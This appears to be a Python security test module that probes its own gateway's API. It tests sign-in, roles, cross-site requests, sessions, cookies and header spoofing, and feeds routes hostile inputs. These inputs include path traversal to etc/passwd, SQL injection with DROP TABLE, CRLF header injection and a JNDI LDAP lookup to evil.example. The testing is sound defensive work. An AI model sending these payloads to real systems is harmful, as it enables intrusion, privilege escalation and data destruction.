"""Roles, other sites, identifiers, queries and bodies: tried on every route of the description.

The routes come from the description that the gateway serves, so a new one is tried by itself.
"""

import json
from collections.abc import Iterator
from functools import partial
from typing import Any
from urllib.parse import parse_qs, quote, urlencode

from devtools.attack.target import (
    JSON_BODY,
    SAME_ORIGIN,
    Json,
    Operation,
    Target,
    bearer,
    operations,
)
from devtools.attack.tries import HELD, Try, answered, not_failed
from libs.common.web.methods import UNSAFE_METHODS
from services.gateway.auth.credentials import SESSION_COOKIE
from services.gateway.domain.access import API, PUBLIC_ROUTES, ROLES, ROUTE_ROLES
from services.gateway.static_files.api_examples import request_example

#: Their bodies are files, which `files.py` tries.
UPLOADS = frozenset({("POST", "/batches"), ("POST", "/batches/{batch_id}/mended-rows")})
#: A failed sign-in is 401; the 61st of an address in a minute is 429.
NOT_SIGNED_IN = (401, 429)
OTHER_SITES = {
    "another site": [(b"Sec-Fetch-Site", b"cross-site")],
    "a neighbour's site": [(b"Sec-Fetch-Site", b"same-site")],
    "an old browser of another site": [(b"Origin", b"https://evil.example")],
    "a page without origin": [(b"Origin", b"null")],
    "no sign of a page": [],
}
#: Percent-encoded, as a part of a path.
HOSTILE_IDS = {
    "traversal": "..%2f..%2f..%2fetc%2fpasswd",
    "dots": "%2e%2e",
    "backslashes": "..%5c..%5cwindows",
    "NUL": "%00",
    "SQL": "1'%20OR%20'1'%3D'1",
    "no UTF-8": "%ff%fe",
    "long": "9" * 3_000,
    "line end": "a%0d%0aSet-Cookie:%20x%3d1",
}
HOSTILE_QUERIES = {
    "NUL": "\0",
    "SQL": "x' OR 1=1 --",
    "pattern": "%_\\" * 50,
    "number": "9" * 40,
    "surrogate": None,  # %ED%A0%80, see `_query`
}
HOSTILE_TEXTS = {
    "NUL": "a\0b",
    "surrogate": "\ud800",
    "SQL": "'; DROP TABLE batch; --",
    "format": "{0.__class__} %s %n ${jndi:ldap://evil.example}",
    "long": "x" * 60_000,
    "direction": "\u202egnp.exe",
}
FORM = "application/x-www-form-urlencoded"
HOSTILE_BODIES = {
    "nothing": b"",
    "no JSON": b"{",
    "no UTF-8": b'{"reason": "\xff\xfe"}',
    "UTF-16": '{"reason": "x"}'.encode("utf-16"),
    "deep": b"[" * 30_000,
    "a list": b"[]",
    "null": b"null",
    "a number": b"9" * 5_000,
    "NaN": b"NaN",
    "infinite": b'{"reason": 1e999}',
}


def route_tries(target: Target) -> Iterator[Try]:
    """All tries on routes."""
    description = target.description()
    found = [one for one in operations(description) if one.path.startswith(API)]
    for one in found:
        if _key(one) not in PUBLIC_ROUTES:
            yield from _without_sign_in(target, one)
            yield from _other_roles(target, one)
            yield from _other_sites(target, one)
    for one in found:
        if _key(one) not in PUBLIC_ROUTES:
            yield from _identifiers(target, one)
        yield from _queries(target, one)
        yield from _bodies(target, description, one)


def _key(one: Operation) -> tuple[str, str]:
    return (one.method, one.path.removeprefix(API))


def _name(one: Operation) -> str:
    return f"{one.method} {one.path.removeprefix(API)}"


def _role_of(one: Operation) -> str:
    """A role that may call a route; a route that no table names has none."""
    return next((role for role in ROLES if role in ROUTE_ROLES.get(_key(one), ())), ROLES[0])


def _without_sign_in(target: Target, one: Operation) -> Iterator[Try]:
    cookie = f"{SESSION_COOKIE}={'A' * 43}".encode()
    for who, headers in {
        "nobody": [],
        "a guessed token": [(b"Authorization", b"Bearer paydown_" + b"A" * 43)],
        "a guessed session": [(b"Cookie", cookie), SAME_ORIGIN],
    }.items():

        def run(headers: list[tuple[bytes, bytes]] = headers) -> str:
            return answered(target.gateway(one.method, one.filled(), headers), NOT_SIGNED_IN)

        yield Try("sign-in", f"{_name(one)} as {who}", run)


def _other_roles(target: Target, one: Operation) -> Iterator[Try]:
    for role in ROLES:
        if role in ROUTE_ROLES.get(_key(one), ()):
            continue

        def run(role: str = role) -> str:
            answer = target.gateway(one.method, one.filled(), [bearer(role)])
            return answered(answer, (403,), "auth.forbidden")

        yield Try("roles", f"{_name(one)} as {role}", run)


def _other_sites(target: Target, one: Operation) -> Iterator[Try]:
    if one.method not in UNSAFE_METHODS:
        return
    for page, headers in OTHER_SITES.items():

        def run(headers: list[tuple[bytes, bytes]] = headers) -> str:
            sent = [target.session(_role_of(one)), *headers]
            return answered(
                target.gateway(one.method, one.filled(), sent), (403,), "auth.cross-site"
            )

        yield Try("other sites", f"{_name(one)} from {page}", run)


def _identifiers(target: Target, one: Operation) -> Iterator[Try]:
    if "{" not in one.path:
        return
    for kind, value in HOSTILE_IDS.items():

        def run(value: str = value) -> str:
            answer = target.gateway(one.method, one.filled(value), [bearer(_role_of(one))])
            return not_failed(answer) or answered(answer, range(400, 500))

        yield Try("identifiers", f"{_name(one)} with {kind}", run)


def _queries(target: Target, one: Operation) -> Iterator[Try]:
    names = [p["name"] for p in one.described.get("parameters", ()) if p["in"] == "query"]
    for name in names if _key(one) not in UPLOADS else ():
        for kind, value in HOSTILE_QUERIES.items():
            sent = "%ED%A0%80" if value is None else quote(value, safe="")

            def run(query: str = f"?{name}={sent}") -> str:
                answer = target.gateway(one.method, one.filled() + query, [bearer(_role_of(one))])
                return not_failed(answer)

            yield Try("queries", f"{_name(one)} {name} with {kind}", run)


def _bodies(target: Target, description: Json, one: Operation) -> Iterator[Try]:
    example = request_example(description, one.described)
    if example is None or _key(one) in UPLOADS:
        return
    is_optional = not one.described["requestBody"].get("required", False)

    def run(body: bytes, is_valid: bool) -> str:
        sent = [bearer(_role_of(one)), JSON_BODY]
        answer = target.gateway(one.method, one.filled(), sent, body)
        if is_valid:
            return not_failed(answer)
        return not_failed(answer) or answered(answer, range(400, 500))

    for kind, body in HOSTILE_BODIES.items():
        is_valid = is_optional and kind in ("nothing", "null")
        yield Try("bodies", f"{_name(one)} is {kind}", partial(run, body, is_valid))
    for kind, text in HOSTILE_TEXTS.items():
        body = _hostile(example, text, is_form=FORM in one.described["requestBody"]["content"])
        yield Try("bodies", f"{_name(one)} holds {kind}", partial(run, body, True))


def _hostile(example: str, text: str, *, is_form: bool) -> bytes:
    """A body like the example with every text replaced."""
    if is_form:
        return urlencode(dict.fromkeys(parse_qs(example), text), errors="replace").encode()
    return json.dumps(_with_text(json.loads(example), text)).encode()


def _with_text(value: Any, text: str) -> Any:  # Any: JSON
    """A JSON value with every text replaced."""
    if isinstance(value, dict):
        return {name: _with_text(part, text) for name, part in value.items()}
    if isinstance(value, list):
        return [_with_text(part, text) for part in value]
    return text if isinstance(value, str) else value


def privilege_tries(target: Target) -> Iterator[Try]:
    """More rights than one has, by tokens, headers and sessions."""
    me = "/api/v1/me"

    def claims(headers: list[tuple[bytes, bytes]]) -> str:
        plain = target.gateway("GET", me, [bearer("auditor")]).json()
        claimed = target.gateway("GET", me, [bearer("auditor"), *headers])
        if claimed.status_code == 200 and claimed.json() != plain:
            return f"another person answers: {claimed.text}"
        return not_failed(claimed)

    for name, value in {
        "X-Paydown-Actor": b"demo-approver",
        "X-Paydown-Roles": b"approver,admin",
        "X-Paydown-Counts-As": b"demo-approver",
        "X-Paydown-Internal": target.internal_token.encode(),
        "X-Paydown-Signature": b"gateway-1:1:1:-:AAAA",
        "X-Original-URL": b"/api/v1/audit",
        "X-Rewrite-URL": b"/api/v1/audit",
        "X-HTTP-Method-Override": b"DELETE",
        "X-Forwarded-Host": b"evil.example",
        "X-Forwarded-User": b"demo-admin",
        "X-Remote-User": b"demo-admin",
        "Forwarded": b"for=203.0.113.9;host=evil.example",
    }.items():
        yield Try("claims", name, partial(claims, [(name.encode(), value)]))

    for role in ("approver", "admin"):
        yield Try("tokens", f"a token that may act as {role}", partial(_new_token, target, role))
    yield Try("sessions", "a session id chosen by an attacker", partial(_fixed_session, target))
    yield Try("sessions", "a cookie used after signing out", partial(_ended_session, target))
    for flag in ("Secure", "HttpOnly", "SameSite=Lax", "Path=/"):
        yield Try("sessions", f"the cookie without {flag}", partial(_cookie_flag, target, flag))


def _new_token(target: Target, role: str) -> str:
    body = json.dumps({"name": "n", "person": f"demo-{role}", "roles": [role]}).encode()
    answer = target.gateway("POST", "/api/v1/tokens", [bearer("admin"), JSON_BODY], body)
    return answered(answer, range(400, 500))


def _fixed_session(target: Target) -> str:
    chosen = f"{SESSION_COOKIE}={'B' * 43}"
    sent = [SAME_ORIGIN, JSON_BODY, (b"Cookie", chosen.encode())]
    body = b'{"person":"demo-auditor"}'
    answer = target.gateway("POST", "/api/v1/session", sent, body)
    given = answer.headers["set-cookie"].partition(";")[0]
    return "the session has the id that was chosen" if given == chosen else HELD


def _ended_session(target: Target) -> str:
    cookie = (b"Cookie", target.new_session("auditor").encode())
    ended = target.gateway("DELETE", "/api/v1/session", [cookie, SAME_ORIGIN])
    again = target.gateway("GET", "/api/v1/me", [cookie])
    return not_failed(ended) or answered(again, NOT_SIGNED_IN)


def _cookie_flag(target: Target, flag: str) -> str:
    sent = [SAME_ORIGIN, JSON_BODY]
    answer = target.gateway("POST", "/api/v1/session", sent, b'{"person":"demo-auditor"}')
    cookie = answer.headers["set-cookie"]
    flags = {part.strip().lower() for part in cookie.split(";")}
    return HELD if flag.lower() in flags else f"the cookie is {cookie.partition('=')[0]}={flags}"
